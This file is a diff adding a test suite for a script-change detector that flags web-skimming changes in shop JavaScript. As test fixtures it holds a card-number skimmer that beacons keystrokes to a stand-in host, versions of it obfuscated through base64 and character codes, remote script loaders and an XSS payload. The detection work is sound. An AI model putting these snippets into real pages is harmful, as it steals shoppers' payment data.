@@ -1,0 +1,205 @@
+// Guards the verdicts on changed scripts: silent about noise, loud about theft.
+import { assert, constantFrom, integer, property } from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { type CompareGiven, compareScripts } from '#changes/index.ts'
+import { sha256Hex } from '#shared/sha256.ts'
+
+const form = `var field = document.querySelector('#email');
+field.addEventListener('change', function () {
+  fetch('https://stats.shop.example/steps', { method: 'POST', body: JSON.stringify({ step: 'email' }) });
+});`
+const thief = `document.querySelector('#cc-number').addEventListener('keyup', function (e) {
+  navigator.sendBeacon('https://cdn-metrics.example/c', e.target.value);
+});`
+const library = Array.from({ length: 60 }, (_, index) => `function part${index}(a, b) {\n  return a.width${index} + b * ${index};\n}`).join(
+  '\n',
+)
+
+const verdict = (before: string, after: string, given?: CompareGiven) => compareScripts(before, after, given).verdict
+const codes = (before: string, after: string, given?: CompareGiven) => compareScripts(before, after, given).reasons.map(({ code }) => code)
+
+describe('noise', () => {
+  it('of the same content is no change', () => {
+    expect(compareScripts(form, form)).toMatchObject({ verdict: null, reasons: [], lines: [], masked: [] })
+  })
+
+  it.each([
+    ['a nonce', 's.nonce = "dVdSUHRCSUljaVBIS3JCbQ=="', 's.nonce = "YVBFeGZCUWFONGY5OTltaA=="'],
+    ['a token', 'var csrf = "9f2c4e1ab07d33aa"', 'var csrf = "01bc8dd2e9f07a64"'],
+    ['an id', 'v("4d1f0b6e-9a51-4d4e-8f5e-0c6d9d4b1a77")', 'v("0a7c6f52-3b2f-4a1d-9c11-7fb0e6a5d210")'],
+    ['a time', 'var t = 1764000000123', 'var t = 1764003600456'],
+    ['a date', 'd("2026-11-22T21:10:11Z")', 'd("2026-11-23T08:00:59Z")'],
+    ['a hash in an address', 'i("/static/app.3f2a9c1b.js")', 'i("/static/app.77d0e4aa.js")'],
+    [
+      'a cart',
+      'cart = [{"sku":"A1","name":"Mug","n":1}]',
+      'cart = [{"sku":"B7","name":"Blue shirt","n":2},{"sku":"C2","name":"Socks","n":1}]',
+    ],
+    ['JSON', '{"cart":{"items":[]},"user":"guest"}', '{"cart":{"items":[{"name":"Mug"}]},"user":"ann"}'],
+    ['JSON in a text', 's(JSON.parse("{\\"n\\":1,\\"w\\":\\"Mug\\"}"))', 's(JSON.parse("{\\"n\\":22,\\"w\\":\\"Cap\\"}"))'],
+  ])('is volatile: %s', (_, before, after) => {
+    expect(verdict(before, after)).toBe('volatile')
+  })
+
+  it('is kept and shown, with its line', () => {
+    const { masked } = compareScripts('f();\nvar csrf = "9f2c4e1ab07d33aa"', 'f();\nvar csrf = "01bc8dd2e9f07a64"')
+    expect(masked).toEqual([{ before: '9f2c4e1ab07d33aa', after: '01bc8dd2e9f07a64', line: 2 }])
+  })
+
+  it('is learned from earlier contents, where nothing in it says so', () => {
+    const text = (word: string) => `greet("${word}", "fixed")`
+    expect(verdict(text('ann'), text('bob'))).toBe('capability')
+    expect(verdict(text('ann'), text('bob'), { history: [text('joe'), text('sue')] })).toBe('volatile')
+    expect(verdict(text('ann'), 'greet("ann", "other")', { history: [text('joe'), text('sue')] })).toBe('capability')
+  })
+
+  it.each([
+    ['other names', 'function f(a) { return a.b(1) } f(x)', 'function g(c) { return c.b(1) } g(x)'],
+    ['layout', form, form.replace(/\n\s*/g, ' ')],
+    ['another order', 'function a() { x.b("t") } function c() { y.d() }', 'function c() { y.d() } function a() { x.b("t") }'],
+    ['another spelling', 'if (a) { x.b(); y.c() } else z.d()', 'a ? (x.b(), y.c()) : z.d()'],
+  ])('is a rebuild: %s', (_, before, after) => {
+    expect(verdict(before, after)).toBe('rebuild')
+  })
+
+  it('a new timer with an unknown function in another build of a program is no news, a new flow is', () => {
+    const send = (what: string) =>
+      `function a(f) { var safe = document.querySelector("#q").value, own = document.querySelector("#card-number").value; s("https://stats.example/?" + ${what}) } function s(u) { new Image().src = u }`
+    expect(verdict(send('safe'), send('own'))).toBe('malicious')
+    expect(verdict('x.b(1); setTimeout(y)', 'setTimeout(y); x.b(1)')).toBe('rebuild')
+  })
+
+  it.each([
+    ['a text', 'x.b(); y.c("t")', 'y.c("t"); x.b("and more")'],
+    ['a property', 'x.b(); y.c()', 'y.c(); x.b().e'],
+    ['a global', 'x.b(); y.c()', 'y.c(); x.b(zzz)'],
+  ])('is no rebuild once %s came', (_, before, after) => {
+    expect(verdict(before, after)).toBe('release')
+  })
+
+  it('a version of a library that only does ordinary things more is a release', () => {
+    const next = `${library.replace('a.width7', 'a.height7')}\nfunction added(node) {\n  node.className = 'is-open';\n}`
+    expect(compareScripts(library, next)).toMatchObject({ verdict: 'release', newCapabilities: [] })
+    expect(codes(library, next, { library: { name: 'parts', versionBefore: '1.0.0', versionAfter: '1.0.1' } })).toContain('library-release')
+    expect(codes(library, next, { seenElsewhere: true })).toContain('seen-elsewhere')
+  })
+})
+
+describe('a theft', () => {
+  it('that is appended is malicious, with its lines and what it can newly do', () => {
+    const found = compareScripts(form, `${form}\n${thief}`)
+    expect(found.verdict).toBe('malicious')
+    expect(found.lines).toEqual([{ before: null, after: [5, 7] }])
+    expect(found.newCapabilities.map(({ kind, what }) => `${kind} ${what}`)).toContain('sends card > cdn-metrics.example')
+  })
+
+  it('that comes with a release of a library is told, whatever else changed', () => {
+    const next = `${library.replace('a.width7', 'a.height7')}\n${thief}`
+    const given: CompareGiven = { library: { name: 'parts', versionBefore: '1.0.0', versionAfter: '1.0.1' }, seenElsewhere: true }
+    expect(compareScripts(library, next, given)).toMatchObject({ verdict: 'malicious', lines: [{ after: [181, 183] }] })
+  })
+
+  it('that a deploy announced is told', () => {
+    const after = `${form}\n${thief}`
+    expect(verdict(form, after, { party: 'first', deploy: { hashes: [sha256Hex(after)] } })).toBe('malicious')
+  })
+
+  it.each([
+    ['base64', `eval(atob("${Buffer.from(thief).toString('base64')}"))`],
+    ['character codes', `Function(String.fromCharCode(${[...thief].map((one) => one.charCodeAt(0)).join()}))()`],
+  ])('is seen through %s, at the line that runs it', (_, hidden) => {
+    expect(compareScripts(form, `${form}\n${hidden}`)).toMatchObject({ verdict: 'malicious', lines: [{ before: null, after: [5, 5] }] })
+  })
+
+  it.each([
+    ['the host of an address', 'stats.shop.example', 'stats.shop-cdn.example', 'host-changed', 3],
+    ['a selector', '#email', '#card-number', 'selector-changed', 1],
+    ['a path', '/steps', '/gather', 'address-changed', 3],
+    ['an event', "'change'", "'keyup'", 'text-changed', 2],
+  ])('by swapping %s alarms at its line', (_, from, to, code, line) => {
+    const found = compareScripts(form, form.replace(from, to))
+    expect(found.reasons.map((reason) => reason.code)).toContain(code)
+    expect(['capability', 'malicious']).toContain(found.verdict)
+    expect(found.lines).toContainEqual({ before: [line, line], after: [line, line] })
+  })
+
+  it('by swapping an address in character codes alarms', () => {
+    const text = (host: string) => `fetch(String.fromCharCode(${[...`https://${host}/`].map((one) => one.charCodeAt(0)).join()}))`
+    expect(verdict(text('stats.example'), text('thief.example'))).toBe('capability')
+  })
+
+  it('by swapping an address that is turned round in base64 alarms', () => {
+    const text = (host: string) =>
+      `fetch(atob("${[...Buffer.from(`https://${host}/`).toString('base64')].reverse().join('')}".split("").reverse().join("")))`
+    expect(verdict(text('stats.example'), text('thief.example'))).toBe('capability')
+  })
+
+  it('by swapping a host always alarms, also at a place that was learned to be volatile', () => {
+    const host = (number: number, ending: string) => `h${number.toString(36)}.${ending}`
+    const text = (name: string) => `load("https://${name}/x.js?v=1"); other(2)`
+    const any = [integer({ min: 0, max: 1e9 }), constantFrom('com', 'example', 'ru', 'co.uk', 'cloudfront.net')] as const
+    assert(
+      property(...any, ...any, (a, x, b, y) => {
+        const [before, after] = [text(host(a, x)), text(host(b, y))]
+        const history = [text('one.example'), text('two.example')]
+        return before === after || verdict(before, after, { history }) === 'capability'
+      }),
+      { numRuns: 40 },
+    )
+  })
+
+  it.each([
+    ['a host', '{"image":"https://images.shop.example/a.png"}', '{"image":"https://images.shop-cdn.example/a.png"}'],
+    ['a hidden host', '{"id":"aGVsbG8gd29ybGQ="}', `{"id":"${Buffer.from('https://cdn-metrics.example/').toString('base64')}"}`],
+    ['markup that runs', '{"text":"Hello"}', '{"text":"<img src=x onerror=alert(1)>"}'],
+    ['code', '{"text":"Hello"}', '{"text":"document.cookie"}'],
+    ['another selector', '{"field":"#email"}', '{"field":"#cc-number"}'],
+    ['another account', '{"key":"pk_live_51AbCdEfGhIj"}', '{"key":"pk_live_99ZyXwVuTsRq"}'],
+  ])('in data alarms: %s', (_, before, after) => {
+    expect(verdict(before, after)).toBe('capability')
+    expect(verdict(`window.__STATE__ = ${before};`, `window.__STATE__ = ${after};`)).toBe('capability')
+  })
+
+  it.each([
+    ['a script element', 's = document.createElement("script"); s.src = "https://cdn-metrics.example/a.js"; document.head.append(s)'],
+    ['an import', 'import("https://cdn-metrics.example/a.mjs")'],
+    ['written markup', 'document.write("<scr" + "ipt src=//cdn-metrics.example/a.js></scr" + "ipt>")'],
+    ["the shop's own host", 's = document.createElement("script"); s.src = "/media/stat.js"; document.head.append(s)'],
+  ])('by a loader alarms: %s', (_, loader) => {
+    expect(compareScripts(library, `${library}\n${loader}`)).toMatchObject({ verdict: 'capability', lines: [{ after: [181, 181] }] })
+  })
+})
+
+describe('what is known of a content', () => {
+  const next = `${library}\nfunction added(node) { node.className = 'is-open' }`
+
+  it('makes it targeted where no other site gets it from that address', () => {
+    expect(verdict(library, next, { seenElsewhere: false, party: 'third' })).toBe('targeted')
+    expect(verdict(library, next, { seenElsewhere: false, party: 'first' })).toBe('release')
+    expect(verdict('t = "9f2c4e1ab07d33aa"', 't = "01bc8dd2e9f07a64"', { seenElsewhere: false, party: 'third' })).toBe('volatile')
+  })
+
+  it('makes it a deploy where its hash was announced, and only then', () => {
+    const after = `${form}\nfetch('https://new.shop.example/')`
+    expect(verdict(form, after, { party: 'first', deploy: { hashes: [sha256Hex(after)] } })).toBe('deploy')
+    expect(verdict(form, after, { party: 'first', deploy: { hashes: [sha256Hex(form)] } })).not.toBe('deploy')
+  })
+
+  it('makes hosts quiet that are approved', () => {
+    const after = `${form}\nfetch('https://api.partner.example/')`
+    expect(verdict(form, after)).toBe('capability')
+    expect(verdict(form, after, { approvedHosts: ['api.partner.example'] })).toBe('release')
+  })
+
+  it('makes it malicious where the judge says so, and an alarm where it grew suspicious', () => {
+    const judge = (verdict: 'suspicious' | 'malicious') => (text: string) => ({
+      verdict: text === library ? ('benign' as const) : verdict,
+      reasons: [{ sentence: 'It looks like a skimmer.' }],
+    })
+    expect(compareScripts(library, next, { judge: judge('malicious') })).toMatchObject({
+      verdict: 'malicious',
+      reasons: [{ code: 'judged-malicious', sentence: 'The new content is judged malicious: It looks like a skimmer.' }],
+    })
+    expect(verdict(library, next, { judge: judge('suspicious') })).toBe('capability')
+  })
+})
